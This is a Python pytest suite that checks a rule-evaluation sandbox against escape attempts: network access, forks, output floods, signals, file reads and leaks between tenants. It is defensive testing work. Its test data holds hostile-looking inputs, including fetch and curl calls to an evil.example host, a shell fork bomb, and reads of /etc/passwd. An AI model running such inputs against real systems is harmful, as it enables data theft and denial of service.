"""What a hostile rule tries in order to get out of its process, each attempt by its name; all of them end inside."""

import json
import os
import resource
import signal
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import pytest

from routing.sandbox.client import Evaluation, Fault
from routing.sandbox.evaluation import REFUSED
from routing.sandbox.protocol import ANSWER_LIMIT
from tests.routing.sandbox.evaluations import causes, children_of, evaluate_rules, eventually, sandbox_pids

RUNAWAY = "def f: f; f"
HUGE_STRING = '"x" as $x | $x * 1000000000'
PLANTED = "planted-words-of-another-tenant"
SIGNALS = (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGPIPE, signal.SIGPROF, signal.SIGALRM)


@dataclass(frozen=True)
class Running:
    """A sandbox process in the middle of an endless rule: it, and the fork that evaluates."""

    pid: int
    fork: int


@contextmanager
def endless_rule() -> Iterator[Running]:
    """Look at the processes of a rule while it runs, then kill them."""
    thread = threading.Thread(target=_run_endlessly)
    thread.start()
    try:
        assert eventually(lambda: bool(sandbox_pids() and confined_fork(sandbox_pids()[0])))
        [pid] = sandbox_pids()
        yield Running(pid, confined_fork(pid))
    finally:
        for pid in sandbox_pids():
            os.killpg(pid, signal.SIGKILL)
        thread.join()


def _run_endlessly() -> None:
    evaluate_rules(RUNAWAY, rule_cpu_ms=60_000, event_cpu_ms=60_000, deadline_seconds=20)


def confined_fork(pid: int) -> int:
    """Return the fork of a sandbox process once it has taken its limits, else 0."""
    forks = [fork for fork in children_of(pid) if limits_of(fork).get("Max processes") == ["0", "0"]]
    return forks[0] if forks else 0


def limits_of(pid: int) -> dict[str, list[str]]:
    try:
        lines = Path(f"/proc/{pid}/limits").read_text().splitlines()
    except OSError:
        return {}
    return {line[:26].strip(): line[26:].split()[:2] for line in lines}


def descriptors_of(pid: int) -> list[str]:
    return sorted(str(path.readlink()) for path in Path(f"/proc/{pid}/fd").iterdir())


def fault_of(attempt: str) -> Fault:
    """Return the fault of the attempt, which must be the only one; the next rule decides."""
    evaluation = evaluate_rules(attempt, "true")
    [fault] = evaluation.faults
    assert (evaluation.matched, fault.rule_index) == (1, 0)
    return fault


@pytest.mark.parametrize(
    "attempt",
    [
        'http_get("http://127.0.0.1")', 'fetch("https://evil.example")', 'curl("https://evil.example")',
        'connect("127.0.0.1"; 80)', 'socket', 'getaddrinfo("evil.example")', 'system("curl evil.example")',
        'import "https://evil.example/m" as m; m::f', 'include "http://evil.example/m"; .',
    ],
)  # fmt: skip
def test_a_network_attempt_has_no_word_for_it(attempt: str) -> None:
    assert fault_of(attempt).cause == "compile_error"


@pytest.mark.parametrize("attempt", ['"evil.example" | @curl', '"/etc/passwd" | @file', '"id" | @exec'])
def test_a_format_that_would_reach_out_does_not_exist(attempt: str) -> None:
    assert fault_of(attempt).cause == "error"


def test_a_network_attempt_finds_no_socket_but_the_channel_and_a_rule_not_even_that() -> None:
    with endless_rule() as running:
        [channel] = [name for name in descriptors_of(running.pid) if name.startswith("socket:")]
        assert not [name for name in descriptors_of(running.fork) if name.startswith("socket:")]
        local = {line.split()[6] for line in Path("/proc/net/unix").read_text().splitlines()[1:]}
    assert channel.removeprefix("socket:[").removesuffix("]") in local


@pytest.mark.parametrize("attempt", ["fork", "fork | fork", 'exec(":(){ :|:& };:")', 'system("sh")', "spawn(.)"])
def test_a_fork_bomb_has_no_word_for_it(attempt: str) -> None:
    assert fault_of(attempt).cause == "compile_error"


def test_a_fork_bomb_would_have_no_process_to_fork_into() -> None:
    with endless_rule() as running:
        assert limits_of(running.fork)["Max processes"] == ["0", "0"]
        assert children_of(running.pid) == [running.fork]
        assert children_of(running.fork) == []


def test_rules_that_run_out_of_time_one_after_the_other_are_never_two_processes() -> None:
    found: list[Evaluation] = []
    thread = threading.Thread(target=lambda: found.append(evaluate_rules(*[RUNAWAY] * 32, rule_cpu_ms=10)))
    thread.start()
    most = 0
    while thread.is_alive():
        most = max([most, *(1 + len(children_of(pid)) for pid in sandbox_pids())])
    assert most == 2
    assert len(found[0].faults) == 32
    assert children_of(sandbox_pids()[0]) == []


@pytest.mark.parametrize(
    "flood",
    [
        'repeat("x")', "range(1e9)", '"x" * 10000000', "recurse(1)", '[limit(100000; repeat("x"))]',
        'error("x" * 1000000)', 'error([limit(100000; repeat("x"))])', 'error({a: "x" * 1000000})',
        '"x" * 1000000 | tonumber', 'repeat(empty)', HUGE_STRING,
    ],
)  # fmt: skip
def test_an_output_flood_is_a_small_answer_in_time(flood: str) -> None:
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    evaluation = evaluate_rules(flood, "true")
    assert time.monotonic() - began < 3.5
    assert size_of(evaluation) < 1_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 8 * 1024
    assert evaluate_rules("true") == Evaluation(0, ())


def test_an_output_flood_of_every_rule_fits_into_one_frame() -> None:
    evaluation = evaluate_rules(*['error("\\u00ff" * 100000)'] * 32, rule_cpu_ms=500, event_cpu_ms=5000)
    assert [cause for _, cause in causes(evaluation)] == ["error"] * 32
    assert max(len(fault.detail or "") for fault in evaluation.faults) <= 200
    assert size_of(evaluation) < ANSWER_LIMIT


@pytest.mark.parametrize(
    "attempt", ['"x" | debug', '"x" | stderr', 'debug("x")', '"x" | halt_error', "printf", "print"]
)
def test_an_output_flood_has_no_other_way_out(attempt: str) -> None:
    assert fault_of(attempt).cause == "compile_error"


def test_an_output_flood_to_the_streams_of_the_process_goes_nowhere() -> None:
    with endless_rule() as running:
        assert [Path(f"/proc/{running.fork}/fd/{number}").readlink() for number in (1, 2)] == [Path("/dev/null")] * 2


@pytest.mark.parametrize("attempt", ["halt", "halt_error", "kill(1; 9)", "signal(9)", "getppid", "$$", "exit", "abort"])
def test_a_signal_to_the_parent_has_no_word_for_it(attempt: str) -> None:
    assert fault_of(attempt).cause == "compile_error"


def test_a_signal_to_the_parents_group_stays_in_the_sandbox() -> None:
    with endless_rule() as running:
        for pid in (running.pid, running.fork):
            assert os.getsid(pid) == os.getpgid(pid) == running.pid
        assert running.pid not in {os.getsid(0), os.getpgid(0)}


def test_no_signal_reaches_the_parent_however_a_rule_dies() -> None:
    heard: list[int] = []
    former = {number: signal.signal(number, lambda found, _: heard.append(found)) for number in SIGNALS}
    try:
        evaluate_rules(RUNAWAY, "true")
        evaluate_rules(HUGE_STRING, "true")
        evaluate_rules("def f: [f]; f", rule_cpu_ms=1500, event_cpu_ms=1500)
        evaluate_rules(RUNAWAY, rule_cpu_ms=60_000, event_cpu_ms=60_000, deadline_seconds=0.3)
    finally:
        for number, handler in former.items():
            signal.signal(number, handler)
    assert heard == []


@pytest.mark.parametrize(
    "attempt",
    [
        "input_filename", "input", "[inputs]", "input_line_number", 'import "/etc/passwd" as $d; $d',
        'import "a" as a {search: "/"}; a::f', 'include "/etc/passwd"; .', '"m" | modulemeta', "get_search_list",
        "get_prog_origin", "get_jq_origin", "$ENV.PATH", "env.PATH", '"\\(input_filename)"', "def f: input; f",
        '{a: [input_filename]}', 'reduce inputs as $i (0; 1)', ". as {a: $x} | input_filename",
    ],
)  # fmt: skip
def test_files_that_a_rule_asks_for_are_refused_by_their_word(attempt: str) -> None:
    assert fault_of(attempt) == Fault(0, "compile_error", REFUSED)


@pytest.mark.parametrize("attempt", ['readfile("/etc/passwd")', 'slurpfile("/etc/passwd")', "$__prog_args", "open(1)"])
def test_files_that_a_rule_asks_for_otherwise_do_not_exist(attempt: str) -> None:
    assert fault_of(attempt).cause == "compile_error"


def test_a_rule_holds_no_file_open_and_may_write_none() -> None:
    with endless_rule() as running:
        names = descriptors_of(running.fork)
        limits = limits_of(running.fork)
    assert {name.partition(":")[0] for name in names} == {"/dev/null", "pipe"}
    assert limits["Max file size"] == limits["Max core file size"] == ["0", "0"]
    assert limits["Max open files"] == ["16", "16"]


def test_another_tenants_rules_params_and_envelope_are_in_another_process() -> None:
    rules = ("[., $params] | tojson | contains($params.word)",)
    theirs = {"owner": "theirs", "params_text": json.dumps({"word": PLANTED})}
    evaluate_rules(*rules, envelope={"payload": f"{PLANTED} in an envelope"}, **theirs)
    [process_of_theirs] = sandbox_pids()

    evaluate_rules(*rules, owner="mine", params_text='{"word": "mine"}')
    [process_of_mine] = set(sandbox_pids()) - {process_of_theirs}

    assert PLANTED.encode() in memory_of(process_of_theirs)
    assert PLANTED.encode() not in memory_of(process_of_mine)


def test_the_same_rules_of_two_tenants_do_not_share_a_process_however_they_take_turns() -> None:
    processes: dict[str, set[int]] = {"one": set(), "two": set()}
    for owner in ["one", "two"] * 3:
        before = set(sandbox_pids())
        evaluate_rules("true", owner=owner)
        processes[owner] |= set(sandbox_pids()) - before
    assert [len(found) for found in processes.values()] == [1, 1]
    assert not processes["one"] & processes["two"]


@pytest.mark.parametrize(
    "looking",
    [
        "$kept", "remembered", "[.., $params] | tojson | contains($params.word)",
        "[paths(..)] | tojson | contains($params.word)", "[builtins] | tojson | contains($params.word)",
        "$__loc__ | tojson | contains($params.word)",
        "try error catch (tojson | contains($params.word))",
    ],
)  # fmt: skip
def test_a_variable_of_one_delivery_is_unknown_to_the_next(looking: str) -> None:
    rules = (looking, ".secret as $kept | def remembered: $kept; remembered != null and (remembered | length) > 9")
    # The word is told in two halves, so that the params themselves do not hold it.
    word = "planted-words-of-the-former-delivery"
    keeping: dict[str, Any] = {"params_text": json.dumps({"word": word[8:]})}
    looked_for = tuple(rule.replace("$params.word", f'("{word[:8]}" + $params.word)') for rule in rules)

    first = evaluate_rules(*looked_for, envelope={"secret": word}, **keeping)
    former = sandbox_pids()
    second = evaluate_rules(*looked_for, envelope={}, **keeping)

    assert first.matched is not None
    assert second.matched is None
    assert sandbox_pids() == former


def size_of(evaluation: Evaluation) -> int:
    """Return the characters of the evaluation as JSON."""
    return len(json.dumps(asdict(evaluation)))


def memory_of(pid: int) -> bytes:
    """Return everything that a process may read or write, as the kernel shows it to the one who started it."""
    content = []
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            addresses, permissions = line.split()[:2]
            if permissions.startswith("rw"):
                start, end = (int(address, 16) for address in addresses.split("-"))
                memory.seek(start)
                content.append(memory.read(end - start))
    return b"".join(content)
